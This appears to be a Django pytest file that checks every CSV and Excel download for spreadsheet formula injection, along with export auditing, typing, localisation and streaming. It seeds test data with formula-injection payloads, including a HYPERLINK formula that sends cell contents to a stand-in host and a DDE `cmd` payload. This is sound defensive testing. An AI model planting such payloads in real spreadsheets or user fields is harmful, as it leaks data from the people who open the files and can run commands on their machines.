"""Every CSV and Excel download is inert, whatever a colleague typed (CWE-1236).

The export paths are found, not listed: ``test_every_export_path_is_found`` walks the
URL resolver and asks every page for each file format the way the download buttons do,
so a download added later is picked up and checked with the others. A second test reads
the project's source: only ``kam.exports`` may write CSV or Excel, so a download behind
a URL with arguments (or a new query parameter) cannot bypass the writer either.
"""

import csv
import io
import re
import tracemalloc
from datetime import timedelta
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from django.conf import settings
from django.test import RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Account
from accounts.tiering.models import ScoringRun, TierScore
from kam import exports
from kam.models import ExportRecord, User
from tests.dashboards.seed import seed_team

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
ROLES = ["kam_a", "sup_east", "exec"]
#: the ways a page is asked for a file; the report and template buttons use the first two
VARIANTS = [{"export": "csv"}, {"export": "xlsx"}, {"format": "csv"}, {"format": "xlsx"}]
FILE_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml")
#: downloads known today: the walk must find at least these
KNOWN = {
    *(f"dashboards:report-{key}" for key in
      ("plan-actual", "pipeline", "activity", "complaint-sla", "tier-movements")),
    "integrations:import-template",
}  # fmt: skip


def _walk(patterns, namespace=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _walk(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", pattern


def _argument_free_urls():
    names = set()
    for name, pattern in _walk(get_resolver().url_patterns):
        if name.startswith("admin:") or pattern.pattern.regex.groupindex:
            continue
        if name in ("logout", "set-language"):
            continue
        names.add(name)
    return sorted(names)


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _is_file(response) -> bool:
    return response.status_code == 200 and response["Content-Type"].startswith(FILE_TYPES)


_FOUND: dict[str, list] = {}


def export_paths(client, world) -> dict[str, list]:
    """{url name: [query variants answering with a file]}, found by asking every page
    (as an admin, who may open all of them) for each format."""
    if _FOUND:
        return _FOUND
    client.force_login(world.user("ops"))
    for name in _argument_free_urls():
        url = reverse(name)
        for variant in VARIANTS:
            response = client.get(url, variant)
            if _is_file(response):
                _FOUND.setdefault(name, []).append(variant)
            _body(response)  # a streamed file is read to its end
    return _FOUND


def _hostile(char: str) -> dict[str, str]:
    return {
        "acme": f'{char}HYPERLINK("http://x.example/?"&A1,"acme")',
        "globex": f"{char}1+1",
        "hooli": f"{char}cmd|' /C calc'!A0",
        "kam_a": f"{char}SUM(1,1)",
        "kam_b": f"{char}kam_b",
    }


def _hostile_world(world, char):
    seed_team(world)
    names = _hostile(char)
    for key in ("acme", "globex", "hooli"):
        Account.objects.filter(pk=world.accounts[key].pk).update(name=names[key])
    for key in ("kam_a", "kam_b"):
        User.objects.filter(pk=world.user(key).pk).update(full_name=names[key])
    # two scoring runs with every East account moving: the tier movements report has rows
    now = timezone.now()
    old = ScoringRun.objects.create(started_at=now - timedelta(days=1), finished_at=now)
    new = ScoringRun.objects.create(started_at=now, finished_at=now + timedelta(seconds=1))
    for key, (before, after) in {"acme": ("B", "A"), "globex": ("A", "C"),
                                 "hooli": ("D", "B")}.items():  # fmt: skip
        account = world.accounts[key]
        TierScore.objects.create(run=old, account=account, total=Decimal(50), tier=before)
        TierScore.objects.create(run=new, account=account, total=Decimal(70), tier=after)
    return names


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _check_csv(content: bytes, where) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            if cell.startswith(tuple(DANGEROUS)):
                assert _number(cell), (where, cell)  # only a number may begin with -
    return rows


def _check_xlsx(content: bytes, where) -> list[list]:
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", where
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(tuple(DANGEROUS)):
                    assert cell.data_type == "s", (where, cell.coordinate)
            values.append([cell.value for cell in row])
    return values


def test_every_export_path_is_found(client, world):
    found = export_paths(client, world)
    assert set(found) >= KNOWN, sorted(found)
    for name in KNOWN:
        assert {"export": "csv"} in found[name] or {"format": "csv"} in found[name], name


def test_only_the_export_writer_writes_csv_or_excel():
    """A module that builds a CSV or workbook of its own would escape the rules above."""
    root = Path(settings.BASE_DIR)
    writers = re.compile(
        r"csv\.(writer|DictWriter)\(|\bWorkbook\(|text/csv|spreadsheetml|xlsxwriter"
    )
    apps = ["kam", "accounts", "plans", "opportunities", "dashboards", "integrations",
            "audit", "messaging", "reminders"]  # fmt: skip
    offenders = []
    for app in apps:
        for path in (root / app).rglob("*.py"):
            if "migrations" in path.parts or path == root / "kam" / "exports.py":
                continue
            if writers.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []


@pytest.mark.parametrize("char", DANGEROUS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_no_export_carries_a_formula(client, world, char):
    paths = export_paths(client, world)
    names = _hostile_world(world, char)
    seen, served = set(), set()
    for role in ROLES:
        client.force_login(world.user(role))
        for name, variants in paths.items():
            for variant in variants:
                response = client.get(reverse(name), variant)
                if response.status_code in (403, 404):  # a role without the page
                    continue
                assert _is_file(response), (role, name, variant, response.status_code)
                served.add(name)
                content = _body(response)
                where = (role, name, variant)
                if "csv" in response["Content-Type"]:
                    cells = _check_csv(content, where)
                else:
                    cells = _check_xlsx(content, where)
                flat = [str(value) for row in cells for value in row]
                seen.update(key for key, text in names.items() if any(text in v for v in flat))
    # the hostile text was exported (as text) and not silently dropped
    assert seen == set(names), seen
    # and every export was checked as some role's file
    assert served == set(paths), sorted(set(paths) - served)


def test_numbers_and_dates_stay_typed(client, world):
    seed_team(world)
    Account.objects.filter(pk=world.accounts["acme"].pk).update(name="=1+2")
    client.force_login(world.user("sup_east"))
    url = reverse("dashboards:report-plan-actual")
    sheet = load_workbook(io.BytesIO(_body(client.get(url, {"export": "xlsx"})))).active
    header = [cell.value for cell in sheet[1]]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    acme = rows["=1+2"]
    assert acme[0].data_type == "s"
    target = acme[header.index("Target")]
    assert (target.data_type, target.number_format) == ("n", "#,##0.00")
    assert isinstance(target.value, int | float)
    assert target.value > 0
    rows = _check_csv(_body(client.get(url, {"export": "csv"})), "csv")
    acme = next(row for row in rows if row[0] == "'=1+2")
    assert Decimal(acme[rows[0].index("Target")]) == Decimal(str(target.value))

    complaints = reverse("dashboards:report-complaint-sla")
    sheet = load_workbook(io.BytesIO(_body(client.get(complaints, {"export": "xlsx"})))).active
    assert sheet["A1"].value == "Received (Beijing time)"
    assert sheet["A2"].data_type == "d"
    assert sheet.column_dimensions["A"].width >= 16


def test_every_download_is_recorded(client, world):
    seed_team(world)
    client.force_login(world.user("sup_east"))
    team = world.teams["East"].pk
    url = reverse("dashboards:report-complaint-sla")
    _body(client.get(url, {"export": "csv", "team": team, "year": 2001}))
    _body(client.get(url, {"export": "xlsx"}))
    csv_record, xlsx_record = ExportRecord.objects.order_by("pk")
    assert csv_record.user == world.user("sup_east")
    assert csv_record.what == "report:complaint-sla"
    assert csv_record.filters == {"team": str(team), "year": "2001"}
    assert (csv_record.file_format, xlsx_record.file_format) == ("csv", "xlsx")
    assert (csv_record.row_count, xlsx_record.row_count) == (0, 2)  # none in 2001
    # this year, the East team: its two complaints
    _body(client.get(url, {"export": "csv", "team": team}))
    assert ExportRecord.objects.order_by("-pk").first().row_count == 2


def test_headers_follow_the_readers_language(client, world):
    seed_team(world)
    user = world.user("sup_east")
    User.objects.filter(pk=user.pk).update(language="zh-hans")
    client.force_login(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hans"
    url = reverse("dashboards:report-pipeline")
    rows = _check_csv(_body(client.get(url, {"export": "csv"})), "csv")
    assert rows[0][0] != "Key account manager"
    assert all(ord(char) > 127 for char in rows[0][0])


def test_a_large_csv_streams_in_constant_memory():
    columns = [exports.Column("name", "Name"), exports.Column("amount", "Amount", "money")]

    def rows(count):
        for index in range(count):
            yield {"name": f"=account {index} 上海", "amount": Decimal(index)}

    def peak(count):
        tracemalloc.start()
        size = sum(len(chunk) for chunk in exports.csv_lines(columns, rows(count)))
        _current, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return size, top

    small_size, small_peak = peak(1_000)
    large_size, large_peak = peak(100_000)
    assert large_size > 50 * small_size
    assert large_peak < 2 * small_peak + 256 * 1024, (small_peak, large_peak)


def test_text_that_is_not_xml_is_cleaned_not_a_server_error(db):
    request = RequestFactory().get("/")
    request.user = type("Anonymous", (), {"is_authenticated": False})()
    columns = [exports.Column("name", "Name")]
    response = exports.export_response(
        request, what="test", file_format="xlsx", columns=columns,
        rows=[{"name": "bad\x0b\x01name"}], file_name="t",
    )  # fmt: skip
    sheet = load_workbook(io.BytesIO(_body(response))).active
    assert sheet["A2"].value == "badname"
